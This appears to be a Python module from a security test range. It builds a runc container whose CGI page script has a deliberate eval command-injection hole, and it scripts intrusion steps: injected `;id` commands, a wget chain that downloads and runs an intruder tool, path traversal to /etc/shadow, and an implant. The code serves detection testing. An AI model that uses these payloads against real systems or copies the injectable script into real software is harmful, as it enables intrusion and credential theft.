"""A container of runc's, with busybox's web server and a page that is a shell script."""

import contextlib
import http.client
import json
import secrets
import shutil
import signal
import subprocess
from collections.abc import Callable, Mapping, Sequence
from functools import partial
from pathlib import Path
from typing import Any

from service_clients import Client

from baseline.demo.cgroup import OwnCgroup
from baseline.demo.service import Server, Step
from baseline.workloads.cgroups import cgroup2_mount
from ranges.intruder import Implant, Intruder
from ranges.target import Target, require, require_success

# The hole: what was asked for is evaluated once more.
_PAGE = """#!/bin/sh
echo "Content-Type: text/plain"
echo
name=$(echo "$QUERY_STRING" | sed 's/^name=//; s/+/ /g')
eval "cat /pages/$name"
"""
_NOTHING: dict[str, Any] = dict.fromkeys(("stdin", "stdout", "stderr"), subprocess.DEVNULL)


class Container(Server):
    """It runs in a cgroup of its own beside ``cgroup``, named by its id as runtimes do."""

    name = "container"
    packages = "runc busybox-static"
    ended_by = signal.SIGTERM

    def __init__(self, cgroup: OwnCgroup, folder: Path) -> None:
        super().__init__(cgroup, folder)
        self.bundle = folder / "bundle"
        self.root = self.bundle / "rootfs"
        self.identity = ""

    def prepare(self) -> None:
        """Make an image: one program, two pages."""
        for name in ("bin", "cgi-bin", "pages", "etc", "tmp", "mnt", "dev", "proc"):
            (self.root / name).mkdir(parents=True)
        shutil.copy(shutil.which("busybox") or "busybox", self.root / "bin")
        (self.root / "bin/sh").symlink_to("busybox")
        for name, size in (("index.html", 600), ("about.html", 5000)):
            (self.root / "pages" / name).write_text("x" * size)
        (self.root / "etc/passwd").write_text("root:x:0:0:root:/:/bin/sh\n")
        (self.root / "etc/shadow").write_text("root:*:1::::::\n")
        page = self.root / "cgi-bin/page"
        page.write_text(_PAGE)
        page.chmod(0o755)

    def launch(self) -> None:
        """Run a container of the image."""
        self.identity = secrets.token_hex(32)
        (self.bundle / "config.json").unlink(missing_ok=True)
        subprocess.run(["runc", "spec", "--bundle", self.bundle], check=True)
        specification = json.loads((self.bundle / "config.json").read_text())
        server = ["/bin/busybox", "httpd", "-f", "-p", f"{self.address}:{self.port}", "-h", "/"]
        specification["process"] |= {"terminal": False, "args": server}
        specification["linux"]["cgroupsPath"] = f"/{self.own_parent}/runc-{self.identity}"
        specification["linux"]["namespaces"] = [
            n for n in specification["linux"]["namespaces"] if n["type"] != "network"
        ]
        (self.bundle / "config.json").write_text(json.dumps(specification))
        command = ["runc", "run", "-d", "--bundle", str(self.bundle), self.identity]
        subprocess.run(command, check=True, **_NOTHING)
        self.await_port()

    @property
    def own_parent(self) -> str:
        """Folder of the cgroups of all containers of this image."""
        return self.cgroup.path.rpartition("/")[0]

    def stop(self) -> None:
        """Remove the container."""
        if self.identity:
            subprocess.run(["runc", "delete", "--force", self.identity], check=True)
            self.identity = ""

    def close(self) -> None:
        """Remove the container, and the cgroups that runc made in hierarchies of version 1."""
        self.stop()
        for folder in Path("/sys/fs/cgroup").glob(f"*/{self.own_parent}"):
            if folder != cgroup2_mount() / self.own_parent:
                with contextlib.suppress(OSError):  # another replica is there
                    folder.rmdir()
                    folder.parent.rmdir()

    def get(self, path: str, address: str = "", headers: Mapping[str, str] | None = None) -> bytes:
        """Ask for a page over a connection of its own."""
        connection = http.client.HTTPConnection(
            self.address, self.port, timeout=15, source_address=(address or "127.0.0.1", 0)
        )
        with contextlib.closing(connection):
            connection.request("GET", path, headers=headers or {})
            return connection.getresponse().read()

    def enter(self, arguments: Sequence[str | Path], **options: Any) -> subprocess.Popen[bytes]:
        """Start a program inside, as ``docker exec`` and ``kubectl exec`` do."""
        command = ["runc", "exec", self.identity, *arguments]
        return subprocess.Popen(command, **{**_NOTHING, **options})


class ContainerClient(Client):
    """Somebody who reads pages."""

    usual_rate = 15
    failures = (OSError, http.client.HTTPException)

    def usual(self, writing: float) -> bool:
        """A page that the script shows, or a file."""
        page = self.choose.choice(("index", "about"))
        kind = "/cgi-bin/page?name=" if self.choose.random() < writing else "/pages/"
        self._get(f"{kind}{page}.html")
        return False

    def unusual(self) -> Sequence[Callable[[], object]]:
        """Mistakes, and a health check from inside."""
        return (
            lambda: self._get("/missing"),
            lambda: self._get("/cgi-bin/page?name=missing"),
            lambda: self._get("/cgi-bin/page"),
            lambda: self._get("/pages/about.html", Range="bytes=100-200"),
        )

    def _get(self, path: str, **headers: str) -> None:
        self.service.get(path, self.address, headers)

    def close(self) -> None:
        """Every connection is closed already."""


class ContainerTarget(Target[Container]):
    """Its intruders are root inside, with the few capabilities that runc leaves them."""

    client = ContainerClient
    needs = ("runc", "busybox")
    techniques = ("shell", "reverse", "fetch", "beacon")

    @property
    def selector(self) -> str:
        """The containers, by the names of their cgroups."""
        return f"{self.name}={self.server.own_parent}/runc-*"

    def operations(self) -> Sequence[Step]:
        """A health check and a cron job from inside, another container of the image."""
        url = f"http://{self.server.address}:{self.server.port}/pages/index.html"
        return (
            Step("health check", lambda: self._run("/bin/busybox", "wget", "-qO/dev/null", url)),
            Step("cron job", lambda: self._run("/bin/sh", "-c", "ls -l /pages | wc -l")),
            Step("restart", self.restart),
        )

    def ways_in(self, intruder: Intruder) -> Sequence[Step]:
        """The page evaluates what it is asked for; and somebody may enter from the node."""
        fetch = f"wget+-qO+/dev/tool+{intruder.tool}&&chmod+700+/dev/tool&&/dev/tool+x&&id"
        return (
            Step("a page's script runs a command", lambda: self._ask("index.html;id", b"uid=")),
            Step(
                "a page's script downloads a program and runs it",
                lambda: self._ask(f"index.html;{fetch}", b"uid="),
            ),
            Step(
                "a page's script shows a secret",
                lambda: self._ask("../etc/shadow", b"root:"),
            ),
            Step(
                "somebody enters the container",
                lambda: self._run("/bin/sh", "-c", "id && ps && cat /etc/shadow && uname -a"),
            ),
        )

    def victim(self) -> int:
        """The web server, as the container numbers it."""
        return 1

    def scratch(self) -> Path:
        """What can be written inside."""
        return Path("/dev")

    def implant(self, intruder: Intruder) -> Implant:
        """Have an implant inside."""
        program = self.server.root / "bin/implant"
        if not program.exists():
            shutil.copy(intruder.implant, program)
        return Implant(partial(self.server.enter, ["/bin/implant"]))

    def _run(self, *command: str) -> None:
        require_success(self.server.enter(command), "runc exec")

    def _ask(self, name: str, sign: bytes) -> None:
        require(self.server.get(f"/cgi-bin/page?name={name}"), sign, "The page's script")
